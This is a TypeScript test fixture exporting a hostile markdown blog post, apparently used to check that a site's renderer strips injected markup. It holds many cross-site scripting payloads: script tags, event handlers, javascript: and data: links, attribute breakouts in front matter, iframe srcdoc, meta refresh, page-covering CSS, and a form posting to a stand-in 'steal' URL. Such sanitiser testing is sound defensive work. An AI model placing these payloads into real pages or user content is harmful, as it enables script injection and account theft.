/** What somebody who means harm writes into a post. Each part would say so in `window.hits`, or lie over the page around it. */
export const hostilePost = `---
title: "</title><script>hit('title')</script><img src=x onerror=hit('title')>"
date: 2026-11-20
description: "\\"><script>hit('description')</script>"
tags: ["<b>tag</b>"]
cover: { src: "https://example.com/x.png?\\" onerror=\\"hit('cover')", alt: "\\"><script>hit('alt')</script>" }
series: "</h2><script>hit('series')</script>"
---

<script>hit('script')</script>

<img src="x" onerror="hit('onerror')">

<div style="position:fixed;inset:0;z-index:99999;background:red">covers all</div>

<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">covers all</p>

<style>body { display: none } * { position: fixed !important }</style>

[a link](javascript:hit('link')) and <a href="java&#10;script:hit('newline')">another</a>, <a href="data:text/html,<script>hit('data')</script>">a third</a>.

<iframe srcdoc="<script>parent.hit('frame')</script>"></iframe>

<form action="https://example.com/steal"><input name="q" autofocus onfocus="hit('focus')"><button>Send</button></form>

<svg onload="hit('svg')"><script>hit('svg script')</script></svg>

<meta http-equiv="refresh" content="0;url=https://example.com/away">

<base href="https://example.com/">

<!--diagram:0--><img src=x onerror="hit('diagram')"><!--/diagram:0-->

\`\`\`html" onmouseover="hit('language')
<script>hit('code')</script>
\`\`\`

\`\`\`mermaid
graph LR
  A["<img src=x onerror=hit('mermaid')>"] --> B
\`\`\`

$$
\\href{javascript:hit('tex')}{x} \\htmlStyle{position:fixed;inset:0}{y} \\rule{500em}{500em}
$$

{% embed https://example.com/" onload="hit('embed') %}

https://www.youtube.com/watch?v=a" onload="hit('youtube')

<details open ontoggle="hit('details')"><summary onclick="hit('summary')">More</summary>

Words.

</details>
`;
